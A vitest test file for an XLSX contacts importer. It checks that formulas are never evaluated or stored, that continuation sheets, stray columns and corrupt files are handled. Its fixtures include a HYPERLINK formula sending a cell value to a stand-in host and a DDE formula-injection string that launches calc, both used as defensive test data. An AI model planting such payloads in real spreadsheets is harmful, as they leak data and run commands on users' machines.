// Contacts import from XLSX: formulas give their cached result or are reported (never evaluated,
// never stored as formula text), numbers and dates as text, continuation sheets, corrupt files.
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { IoError } from '../../electron/formats/io-errors.js';
import { ioFixture, membersOf } from './import-export-helpers.js';

const fx = ioFixture('import-xlsx');
const { store, io } = fx;
afterAll(() => fx.cleanup());

async function workbook(name: string, build: (wb: ExcelJS.Workbook) => void): Promise<string> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  const path = fx.file(name);
  await wb.xlsx.writeFile(path);
  return path;
}

describe('contacts import: XLSX', () => {
  it('takes cached formula results, reports formulas without one and error cells, and never stores formula text', async () => {
    const f = await workbook('formulas.xlsx', (wb) => {
      const ws = wb.addWorksheet('客户');
      ws.addRow(['手机号', '姓名', '链接', '积分']);
      ws.addRow([13800138000, '张三', 'plain', 10]); // 2: the number as a numeric cell
      ws.addRow([{ formula: '13800138000+1', result: 13800138001 }, { formula: 'UPPER("li")', result: 'LI' }, 'x', { formula: 'D2*2', result: 20 }]); // 3
      ws.addRow(['13800138002', '王五', { formula: 'HYPERLINK("http://evil.example/?"&A4,"click")' }, 1]); // 4: no cached result
      ws.addRow(['13800138003', '赵六', { error: '#N/A' } as never, 1]); // 5: error value
      ws.addRow([{ formula: 'A2&""' }, '无结果', '', 1]); // 6: the number itself is a formula without result
      ws.addRow(['13800138004', { formula: '"=cmd|\' /C calc\'!A0"', result: "=cmd|' /C calc'!A0" }, new Date(Date.UTC(2024, 11, 24)), true]); // 7
    });
    const p = await io.previewContacts(f);
    expect(p).toMatchObject({ format: 'xlsx', header: ['手机号', '姓名', '链接', '积分'], counts: { rows: 6, valid: 3, malformed: 3 } });
    expect(p.issues.map((i) => [i.sheet, i.line, i.problem])).toEqual([
      ['客户', 4, 'formula-without-result'],
      ['客户', 5, 'cell-error'],
      ['客户', 6, 'formula-without-result'],
    ]);
    expect(p.issues[0]!.message).toBe(
      'sheet "客户" row 4 column C: a formula without a saved result (formulas are never evaluated; open and save the file in Excel, or paste values)',
    );
    expect(p.issues[1]!.message).toBe('sheet "客户" row 5 column C: the cell holds the error #N/A');

    const r = await io.importContacts(f, { groupName: 'xlsx', create: true });
    const members = membersOf(store, r.group!.id);
    expect(members).toEqual([
      { number: '13800138000', name: '张三', fields: { 链接: 'plain', 积分: '10' } },
      { number: '13800138001', name: 'LI', fields: { 链接: 'x', 积分: '20' } },
      // A cached text result is kept as text: it is data here, and exports neutralise it.
      { number: '13800138004', name: "=cmd|' /C calc'!A0", fields: { 链接: '2024-12-24', 积分: 'TRUE' } },
    ]);
    const stored = JSON.stringify(members);
    expect(stored).not.toMatch(/HYPERLINK|UPPER|D2\*2/);
  });

  it('reads later sheets that repeat the header (our exports past the row limit) and ignores other sheets', async () => {
    const f = await workbook('sheets.xlsx', (wb) => {
      const a = wb.addWorksheet('Contacts');
      a.addRow(['mobile', 'name']);
      a.addRow(['13900139000', 'a']);
      const b = wb.addWorksheet('Contacts (2)');
      b.addRow(['mobile', 'name']);
      b.addRow(['13900139001', 'b']);
      b.addRow(['13900139000', 'dup']);
      const c = wb.addWorksheet('Notes');
      c.addRow(['anything', 'else']);
      c.addRow(['13900139002', 'c']);
    });
    const p = await io.previewContacts(f);
    expect(p.counts).toMatchObject({ rows: 3, valid: 2, duplicateInFile: 1 });
    expect(p.issues[0]!.message).toBe('sheet "Contacts (2)" row 3: 13900139000 is on sheet "Contacts" row 2 too (the first row is used)');
    expect(p.warnings.map((w) => w.message)).toContain('sheet "Notes" was not imported: only the first sheet, and later sheets repeating its header row, are read');
  });

  it('reports a value in a column without a header', async () => {
    const f = await workbook('stray.xlsx', (wb) => {
      const ws = wb.addWorksheet('S');
      ws.addRow(['phone', 'name']);
      ws.addRow(['13600136000', 'a']);
      ws.addRow(['13600136001', 'b', 'stray']);
    });
    const p = await io.previewContacts(f);
    expect(p.issues).toMatchObject([{ line: 3, problem: 'malformed-row', message: 'sheet "S" row 3: a value in column C, which has no header' }]);
  });

  it('refuses a corrupt workbook with a clear error and writes nothing', async () => {
    const f = fx.write('corrupt.xlsx', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 7)]));
    const e = await io.importContacts(f, { groupName: 'corrupt', create: true }).catch((x: unknown) => x as IoError);
    expect(e).toBeInstanceOf(IoError);
    expect((e as IoError).code).toBe('malformed-file');
    expect((e as IoError).message).toMatch(/^corrupt\.xlsx: the file is truncated or damaged/);
    expect(store.contacts.findGroup('corrupt')).toBeNull();
  });
});
